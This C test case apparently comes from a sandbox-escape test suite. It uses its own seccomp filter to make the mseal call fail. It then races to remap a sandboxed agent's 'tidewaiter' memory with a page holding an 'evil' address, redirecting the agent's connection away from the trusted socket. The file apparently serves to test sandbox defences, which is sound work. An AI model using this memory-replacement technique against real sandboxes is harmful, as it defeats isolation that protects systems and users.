// escape: has a filter of its own say that the agent's memory is sealed, and replaces it
// group: filters of its own
// policy: unix
// attempts: 2000
#include "filter.h"
#include "unix.h"

#ifndef SYS_mseal
#define SYS_mseal 462
#endif

enum { kSize = 16384, kPart = 512 };
static unsigned seed;

// Where the agent's memory is, or NULL.
static void* find(void) {
  FILE* maps = fopen("/proc/self/maps", "re");
  if (maps == NULL) broken("maps");
  char line[512];
  void* found = NULL;
  while (found == NULL && fgets(line, sizeof line, maps) != NULL) {
    if (strstr(line, "memfd:tidewaiter") != NULL) found = (void*)strtoul(line, NULL, 16);
  }
  fclose(maps);
  return found;
}

static void* replace(void* unused) {
  static char page[kSize];
  const struct name name = named(evil());
  for (size_t at = 0; at < sizeof page; at += kPart) memcpy(page + at, &name.address, sizeof name.address);
  const int memory = memfd_with(page, sizeof page);
  void* place = NULL;
  while (place == NULL) place = find();
  for (int i = rand_r(&seed) % 40; i > 0; i--) moment(&seed);
  mmap(place, kSize, PROT_READ, MAP_SHARED | MAP_FIXED, memory, 0);
  for (;;) pause();
  return unused;
}

static void attack(void) {
  serve_all(SOCK_STREAM);
  connect_once(named(evil()));
  while (more()) {
    seed++;
    if (!in_child()) {
      arrived();
      continue;
    }
    if (filter(SYS_mseal, SECCOMP_RET_ERRNO, 0) < 0) broken("seccomp");
    thread(replace, NULL);
    connect_once(named(GOOD_SOCKET));
    _exit(0);
  }
}
